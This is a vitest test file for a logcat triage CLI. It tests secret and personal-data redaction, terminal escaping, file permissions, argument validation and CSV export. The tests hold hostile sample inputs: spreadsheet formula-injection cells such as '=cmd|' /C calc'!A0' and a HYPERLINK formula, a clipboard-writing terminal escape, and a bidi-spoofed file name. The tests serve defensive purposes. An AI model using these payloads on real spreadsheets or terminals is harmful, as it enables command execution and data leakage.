/**
 * What round seventeen's adversarial review of hostile input found (each fails on the build before it):
 * a phone number at a sentence's end, key separators written full-width, percent-encoded or as Gson's
 * escapes, a context line cut inside a value before redaction, registry text printed raw by `explain`,
 * a report written over an existing file keeping its mode, and `--year` / `--busy-timeout` values that
 * were taken as they came; and CSV cells a spreadsheet would run as formulas (round eighteen).
 */
import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { SHARED, query, runCli, tempDir } from '../helpers.js';

/** The real capture's lines, with `extra` put in just before its line `at` (1-based). */
function capture(at: number, ...extra: string[]): string {
  const lines = readFileSync(join(SHARED, 'corpus', 'labeled', 'dev-threadtime.log'), 'utf8').split('\n').filter((l) => l.length);
  lines.splice(at - 1, 0, ...extra);
  return lines.join('\n') + '\n';
}

/** Every stored text of every event, one string (what a leak would show up in). */
function storedText(db: string): string {
  return query<Record<string, unknown>>(db, 'SELECT excerpt, detail, tag, context, cause FROM events').map((r) => JSON.stringify(r)).join('\n');
}

function ingest(text: string, ...flags: string[]): { db: string; out: string } {
  const dir = tempDir();
  const file = join(dir, 'capture.log');
  writeFileSync(file, text);
  const db = join(dir, 't.db');
  const r = runCli(['--db', db, '--year', '2026', '--tz', 'UTC', '--json', ...flags, file]);
  expect(r.stderr).not.toMatch(/^\s+at /m);
  expect(r.status).toBe(0);
  // what it printed: the live events (--json) and the summary
  return { db, out: r.stdout + r.stderr };
}

describe('redaction of values the rules missed', () => {
  it('redacts a mobile number before a full stop, in the event and in the line before it', () => {
    // line 291 of the capture: "W AuthRepository: cn.authing.guard callback code: 10009, ..." (pid 4672)
    const { db, out } = ingest(capture(
      291,
      '03-17 16:13:47.590  4672  4684 D SmsHelper: verification SMS sent to 13812345678.',
      '03-17 16:13:47.595  4672  4684 E Guard   : sendSms failed code: 2001, message: bad code, phone 13912345678.',
    ));
    const stored = storedText(db);
    expect(stored).toContain('[phone].');
    for (const leaked of ['13812345678', '13912345678']) {
      expect(stored).not.toContain(leaked);
      expect(out).not.toContain(leaked);
    }
  });

  it('redacts a secret after a full-width, percent-encoded or Gson-escaped separator, and an escaped e-mail', () => {
    const { db, out } = ingest(capture(
      291,
      '03-17 16:13:47.590  4672  4684 E Guard   : login failed code: 2001 password：FwPass999 next',
      '03-17 16:13:47.591  4672  4684 E Guard   : login failed code: 2002 redirect_uri=https%3A%2F%2Fapp%2Fcb%3Frefresh_token%3DPctRef222 login_hint=dave%40example.com',
      '03-17 16:13:47.592  4672  4684 E Guard   : login failed code: 2003 {"url":"cb?refresh_token\\u003dGsonRef111\\u0026x=1","user":"bob\\u0040example.com"}',
      '03-17 16:13:47.593  4672  4684 E Guard   : login failed code: 2004 <password>XmlPass666</password>',
    ));
    const stored = storedText(db);
    for (const leaked of ['FwPass999', 'PctRef222', 'GsonRef111', 'XmlPass666', 'dave%40example', 'bob\\\\u0040example']) {
      expect(stored).not.toContain(leaked);
      expect(out).not.toContain(leaked);
    }
    expect(query<{ code: number }>(db, 'SELECT code FROM events WHERE code BETWEEN 2001 AND 2004 ORDER BY code').map((r) => r.code)).toEqual([2001, 2002, 2003, 2004]);
  });

  it('cuts a long context line at a separator before redacting it: no ID number, phone or e-mail is left in part', () => {
    // OkHttp-style bodies: a long token (redacted, so the line shrinks), then a personal field that the
    // 1,200-character cut of the message falls inside, `cut` characters into its value.
    const CUT = 1200;
    const lines: string[] = [];
    for (const [key, field, value] of [['access_token', 'idCard', '110101199003074514'], ['refresh_token', 'phone', '13812345678'], ['refresh_token', 'email', 'alice.wang@corp.example.com']] as const) {
      for (const cut of [5, 10, 16]) {
        const head = `{"${key}":"`;
        const mid = `","${field}":"`;
        const pad = CUT - head.length - mid.length - cut;
        lines.push(`03-17 16:13:47.590  4672  4684 D okhttp.OkHttpClient: ${head}${'A'.repeat(pad)}${mid}${value}"}`);
      }
    }
    const { db } = ingest(capture(291, ...lines), '--context', '12');
    const [row] = query<{ context: string }>(db, `SELECT context FROM events WHERE line = ${291 + lines.length}`);
    expect(JSON.parse(row!.context).filter((l: string) => l.includes('OkHttp'))).toHaveLength(lines.length);
    // no run of 5 or more of the ID's or the phone's digits, and no head of the e-mail
    expect(row!.context).not.toMatch(/\d{5,}/);
    expect(row!.context).not.toContain('alice');
  });
});

describe('text from a registry file on a terminal, and files written', () => {
  it('explain escapes control characters and bidi overrides of a --registry file', () => {
    const dir = tempDir();
    const reg = join(dir, 'reg.json');
    writeFileSync(reg, JSON.stringify({ codes: [{ code: 9001, category: 'network', message: 'evil \x1b]52;c;aGk=\x07 \u202e msg', suggestion: 'do \x1b[2J' }] }));
    const r = runCli(['explain', '--registry', reg, '9001']);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('9001');
    expect(r.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
    expect(r.stdout).toContain('\\e]52');
  });

  it('report -o over an existing file leaves it mode 600, as a new one', () => {
    const { db } = ingest(capture(1));
    for (const format of ['html', 'csv']) {
      const out = join(tempDir(), `week.${format}`);
      writeFileSync(out, 'old');
      chmodSync(out, 0o644);
      const r = runCli(['report', '--db', db, '-f', format, '-o', out]);
      expect(r.status).toBe(0);
      expect(statSync(out).mode & 0o777).toBe(0o600);
      expect(readFileSync(out, 'utf8')).not.toBe('old');
    }
  });
});

describe('CSV a spreadsheet opens', () => {
  it('a log-derived cell that starts like a formula starts with a quote; numbers and other text are as stored', () => {
    // a tag and messages an app controls, each an Authing event of the capture's process
    const { db } = ingest(capture(
      1,
      '03-17 16:13:38.811  4672  4672 W =HYPERLINK("http://x.test/?"&A1): cn.authing.guard callback code: 10009, message: x',
      '03-17 16:13:38.812  4672  4672 W AuthRepository: =cmd|\' /C calc\'!A0 cn.authing.guard callback code: 10010, message: x',
      '03-17 16:13:38.813  4672  4672 W AuthRepository: --> POST /api/v3/signin cn.authing.guard callback code: 10011, message: x',
      '03-17 16:13:38.814  4672  4672 W AuthRepository: +1 @SUM(A1) cn.authing.guard callback code: 10012, message: x',
    ));
    const sql = "SELECT code, tag, excerpt, -1 AS minus FROM events WHERE code BETWEEN 10009 AND 10012 AND line <= 4 ORDER BY line";
    const stored = query<{ code: number; tag: string; excerpt: string }>(db, sql);
    expect(stored.map((r) => r.code)).toEqual([10009, 10010, 10011, 10012]);
    const r = runCli(['sql', '--db', db, '--format', 'csv', sql]);
    expect(r.status, r.stderr).toBe(0);
    const rows = r.stdout.trimEnd().split('\r\n').slice(1);
    expect(rows).toHaveLength(4);
    // no text cell of the CSV, quoted or not, starts with a formula's first character (the last cell is the number)
    for (const row of rows) expect(row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(0, -1).map((c) => c.replace(/^"/, ''))).not.toContainEqual(expect.stringMatching(/^[=+\-@]/));
    expect(rows[0]).toMatch(/^10009,"'=HYPERLINK\(""http:/);
    expect(rows[1]).toContain(',"\'=cmd|');
    expect(rows[2]).toContain(',"\'--> POST');
    expect(rows[3]).toContain(',"\'+1 @SUM(A1)');
    // a number is a number: -1 as it is
    for (const row of rows) expect(row.endsWith(',-1')).toBe(true);
    // and so is a plain number written as text (a label `-1`, PostgreSQL's bigint), where a formula is not
    const text = runCli(['sql', '--db', db, '--format', 'csv', "SELECT '-5' AS a, '+2.5' AS b, '-1+2' AS c"]);
    expect(text.stdout).toBe("a,b,c\r\n-5,+2.5,'-1+2\r\n");
    // the rest of each cell is the stored text
    expect(rows[2]).toContain(`'${stored[2]!.excerpt}`);
  });
});

describe('values checked before a run', () => {
  const FILE = join(SHARED, 'corpus', 'labeled', 'dev-time.log');
  it.each([
    [['--year', '99999'], /--year 99999: expected a year from 1970 to 9999/],
    [['--year', '0'], /--year 0: expected a year from 1970 to 9999/],
    [['--year', '2026.5'], /--year 2026\.5: expected a year/],
    [['--busy-timeout', '-1'], /--busy-timeout -1: expected a whole number of milliseconds/],
  ])('%j: one line, exit 2, nothing stored', (flags, pattern) => {
    const db = join(tempDir(), 't.db');
    const r = runCli(['--db', db, ...flags, '--quiet', FILE]);
    expect(r.stderr).not.toMatch(/^\s+at /m);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(pattern);
    expect(r.status).toBe(2);
  });

  it('a config file year out of range names the file and the key', () => {
    const dir = tempDir();
    writeFileSync(join(dir, '.authing-triage.json'), JSON.stringify({ year: 12 }));
    const r = runCli(['--db', join(dir, 't.db'), '--quiet', FILE], { cwd: dir });
    expect(r.stderr).toMatch(/\.authing-triage\.json: key "year": 12: expected a year from 1970 to 9999/);
    expect(r.status).toBe(2);
  });
});

describe('a line terminator inside a record', () => {
  it('a CR, U+2028 or U+2029 inside a message keeps the record its layout: time, pid and tag stored', () => {
    const marks = ['\r', '\u2028', '\u2029'];
    const { db } = ingest(capture(
      291,
      ...marks.map((m, i) => `03-17 16:13:47.59${i}  4672  4684 W AuthRepository: cn.authing.guard callback code: ${10010 + i}, message: busy${m} now`),
    ));
    const rows = query<{ code: number; time: string | null; pid: number | null; tag: string }>(db, 'SELECT code, time, pid, tag FROM events WHERE line BETWEEN 291 AND 293 ORDER BY line');
    expect(rows).toEqual(marks.map((_, i) => ({ code: 10010 + i, time: `2026-03-17T16:13:47.59${i}Z`, pid: 4672, tag: 'AuthRepository' })));
  });

  it('parse writes C1 controls, bidi overrides and line separators as JSON escapes, the same values read back', () => {
    const dir = tempDir();
    const file = join(dir, 'c1.log');
    const tag = 'Guard\u202e';
    const message = 'x \u009b2J code: 10010 \u2028 y';
    writeFileSync(file, `03-17 16:13:47.599  4672  4684 W ${tag}: ${message}\n`);
    const r = runCli(['parse', '--year', '2026', file]);
    expect(r.status).toBe(0);
    expect(r.stdout).not.toMatch(/[\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
    const rec = JSON.parse(r.stdout) as { tag: string; message: string; format: string };
    expect(rec).toMatchObject({ tag, message, format: 'threadtime' });
  });
});

describe('labels', () => {
  it('a label value keeps no bidi override or line separator, and a bad --label does not print its secret', () => {
    const dir = tempDir();
    const db = join(dir, 't.db');
    const file = join(SHARED, 'corpus', 'labeled', 'dev-time.log');
    expect(runCli(['--db', db, '--quiet', '--label', 'device=dev\u202egnp.exe\u2028x', file]).status).toBe(0);
    const [row] = query<{ value: string }>(db, "SELECT value FROM source_labels WHERE key = 'device'");
    expect(row!.value).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
    expect(row!.value).toContain('gnp.exe');
    const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl';
    const r = runCli(['--db', db, '--quiet', '--label', `Token=${jwt}`, file]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/--label "Token=\[jwt\]": "Token" is not a label key/);
    expect(r.stderr).not.toContain('eyJhbGci');
  });
});

describe('--input-format binary on a text file', () => {
  it('says that no record can be read, where it read nothing and said nothing; a binary capture says nothing of it', async () => {
    const { entry } = await import('../binary.js');
    const dir = tempDir();
    const text = join(SHARED, 'corpus', 'labeled', 'dev-time.log');
    const r = runCli(['--db', join(dir, 't.db'), '--quiet', '--input-format', 'binary', text]);
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(/dev-time\.log: read with --input-format binary, but its head is no binary logcat capture \(adb logcat -B\)/);
    const bin = join(dir, 'capture.bin');
    writeFileSync(bin, Buffer.concat([entry('2026-03-17T16:13:40.332Z', 4672, 4672, 'E', 'Guard', 'login failed code: 2004')]));
    const b = runCli(['--db', join(dir, 'b.db'), '--quiet', '--input-format', 'binary', bin]);
    expect(b.status).toBe(0);
    expect(b.stderr).not.toMatch(/no binary logcat/);
    expect(query<{ code: number }>(join(dir, 'b.db'), 'SELECT code FROM events')).toEqual([{ code: 2004 }]);
  });
});
